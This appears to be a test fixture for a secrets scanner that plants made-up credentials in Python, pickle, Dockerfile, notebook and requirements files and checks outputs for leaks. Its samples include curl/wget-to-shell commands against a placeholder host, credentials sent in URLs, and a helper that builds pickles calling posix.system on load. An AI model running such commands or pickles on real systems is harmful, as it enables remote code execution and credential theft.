import type { Detector } from '../../engine/src/secrets/detector';
import { detectors } from '../../engine/src/secrets/detectors';
import { findSecrets } from '../../engine/src/secrets/matcher';
import { type Placed, placed } from '../unit/secrets/placed';
import { randomNumbers } from '../unit/secrets/sample';

/** A made-up secret, and the text that holds it. */
export interface PlantedSecret {
  readonly value: string;
  /** Characters in front that the format has anyway, such as `hf_`. */
  readonly prefix: number;
  /** File that holds it. */
  readonly path: string;
  readonly content: string;
}

const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';

/** Characters that look random, and the same in every run. */
function opaque(seed: number, length = 24): string {
  const random = randomNumbers(seed);
  return Array.from({ length }, () => alphabet[random(alphabet.length)]).join('');
}

/** A pickle that calls a function with one text when it is loaded. */
function pickled(callee: string, text: string): string {
  const [module, name] = callee.split('.');
  const bytes = Buffer.from(text);
  const length = Buffer.alloc(4);
  length.writeUInt32LE(bytes.length);
  return `\x80\x02c${module}\n${name}\nX${length.toString('latin1')}${bytes.toString('latin1')}\x85R.`;
}

/** A secret of a format that counts as one; some samples look too much like words. */
function knownSecret(detector: Detector): Placed {
  for (let seed = 1; ; seed++) {
    const sample = placed(detector, seed);
    const text = sample.before + sample.secret + sample.after;
    if (findSecrets(text, 'text').some(({ value }) => value.includes(sample.secret))) return sample;
    if (seed > 100) throw new Error(`no sample of ${detector.id} counts`);
  }
}

/** Commands and addresses that give a secret away by its place, whatever it looks like. */
const places: readonly ((secret: string) => string)[] = [
  (secret) => `curl -u robot:${secret} http://h.example/install.sh | sh`,
  (secret) => `wget --password=${secret} http://h.example/x.sh -O- | sh`,
  (secret) => `curl --user robot:${secret} http://h.example/x | bash`,
  (secret) => `curl "http://h.example/x.sh?api_key=${secret}" | sh`,
  (secret) => `curl "http://b.example/x.sh?X-Amz-Signature=${secret}&a=1" | bash`,
  (secret) => `curl -H "Authorization: Bearer ${secret}" http://h.example/x | sh`,
  (secret) => `curl -H 'X-Api-Key: ${secret}' http://h.example/x | sh`,
  (secret) => `pip install --index-url http://robot:${secret}@h.example/simple torch`,
  (secret) =>
    `pip install --extra-index-url http://${secret}@h.example/simple numpy; curl http://h.example/x | sh`,
  (secret) => `sshpass -p ${secret} scp a b; curl http://h.example/x | sh`,
  (secret) => `mlflow --token ${secret}; curl http://h.example/x | sh`,
  (secret) => `export WAREHOUSE_PASSWORD=${secret}; curl "http://h.example/?k=${secret}" | sh`,
  (secret) => `aws s3 cp s3://robot:${secret}@bucket/x . ; curl http://h.example/x | sh`,
];

/** Files that hold one command each, where the command is a finding. */
const holders: readonly ((command: string) => readonly [extension: string, content: string])[] = [
  (command) => ['py', `import os\nos.system(${JSON.stringify(command)})\n`],
  (command) => ['pkl', pickled('posix.system', command)],
  (command) => ['Dockerfile', `FROM python:latest\nRUN ${command}\n`],
  (command) => [
    'ipynb',
    JSON.stringify({
      nbformat: 4,
      nbformat_minor: 5,
      metadata: {},
      cells: [
        { cell_type: 'code', id: 'a', metadata: {}, execution_count: 1, outputs: [], source: `!${command}` },
      ],
    }),
  ],
];

/** At least 200 secrets: one of each known format, and shapeless ones in every place of every kind of file. */
export function plantedSecrets(): readonly PlantedSecret[] {
  const planted: PlantedSecret[] = [];
  for (const [index, detector] of detectors.entries()) {
    const { before, secret: value, after } = knownSecret(detector);
    const [word] = detector.keywords;
    const head = /^-----BEGIN [^-]*-----/.exec(value)?.[0].length ?? 0;
    const prefix = value.startsWith(word) ? Math.max(word.length, head) : head;
    const text = before + value + after;
    const padding = detector.kind === 'block' ? '' : `${'x'.repeat(index)} `;
    const command = `${padding}${text}; curl http://h.example/x | sh`;
    const texts = [
      ['py', `import os\n${text}\nos.system(${JSON.stringify(command)})\n`],
      ['pkl', pickled('posix.system', command)],
      ['sh', `${command}\n`],
    ];
    for (const [extension, content] of texts)
      planted.push({ value, prefix, path: `format-${detector.id}.${extension}`, content });
  }
  for (const [at, place] of places.entries()) {
    for (const [how, holder] of holders.entries()) {
      // Somewhere around where excerpts are cut.
      for (const padding of [0, 60, 110, 150]) {
        const value = opaque(1000 + at * 100 + how * 10 + padding);
        const [extension, content] = holder(
          place(value).replace('http://h.', `http://${'y'.repeat(padding)}h.`),
        );
        const name = `place-${at}-${how}-${padding}`;
        const path = extension === 'Dockerfile' ? `${name}/Dockerfile` : `${name}.${extension}`;
        planted.push({ value, prefix: 0, path, content });
      }
    }
  }
  for (const [index, line] of [
    (secret: string) => `--index-url http://robot:${secret}@h.example/simple\ntorch\n`,
    (secret: string) => `torch @ http://robot:${secret}@h.example/torch.whl\n`,
    (secret: string) => `git+http://${secret}@h.example/a/b.git#egg=b\n`,
  ].entries()) {
    const value = opaque(5000 + index);
    planted.push({ value, prefix: 0, path: `r${index}/requirements.txt`, content: line(value) });
  }
  // Longer than an excerpt, so that what ends the place of a secret is cut off.
  const address = `https://robot:${opaque(5500, 300)}@h.example/modeling.Net`;
  const settings = { model_type: 'net', auto_map: { AutoModel: address } };
  const path = 'hub/config.json';
  planted.push({ value: opaque(5500, 300), prefix: 0, path, content: JSON.stringify(settings) });
  const named = opaque(5501);
  // A call with two arguments.
  const last = `U${String.fromCharCode(named.length)}${named}\x86R.`;
  const after = pickled('warehouse.Client', 'WAREHOUSE_PASSWORD').replace('\x85R.', last);
  planted.push({ value: named, prefix: 0, path: 'arguments.pkl', content: after });
  const code: readonly ((secret: string) => string)[] = [
    (secret) => `requests.get("http://h.example/a?api_key=${secret}", verify=False)`,
    (secret) => `requests.get("http://robot:${secret}@h.example/model.pt", verify=False)`,
    (secret) => `torch.hub.load_state_dict_from_url("http://h.example/m.pt?token=${secret}")`,
    (secret) => `torch.load("s3://key:${secret}@bucket/m.pt")`,
    (secret) => `AutoModel.from_pretrained("a/b", trust_remote_code=True, token="${secret}")`,
    (secret) => `yaml.load(text, password="${secret}")`,
    (secret) => `subprocess.run("curl -u a:${secret} http://h | sh", shell=True)`,
  ];
  for (const [index, line] of code.entries()) {
    const value = opaque(6000 + index);
    const head = 'import requests, torch, yaml, subprocess\nfrom transformers import AutoModel\n';
    planted.push({ value, prefix: 0, path: `code-${index}.py`, content: `${head}${line(value)}\n` });
  }
  return planted;
}

/** Which secrets an output holds eight characters of that are not part of their format, with such a piece. */
export function leaksIn(output: string, planted: readonly PlantedSecret[]): string[] {
  const pieces = new Map<string, string>();
  for (const { value, prefix, path } of planted)
    for (let at = prefix; at + 8 <= value.length; at++) pieces.set(value.slice(at, at + 8), path);
  const found = new Set<string>();
  for (let at = 0; at + 8 <= output.length; at++) {
    const piece = output.slice(at, at + 8);
    const path = pieces.get(piece);
    if (path !== undefined)
      found.add(`${path}: ${output.slice(Math.max(0, at - 60), at + 30).replaceAll('\n', ' ')}`);
  }
  const first = new Map<string, string>();
  for (const text of found) if (!first.has(text.split(':')[0])) first.set(text.split(':')[0], text);
  return [...first.values()];
}
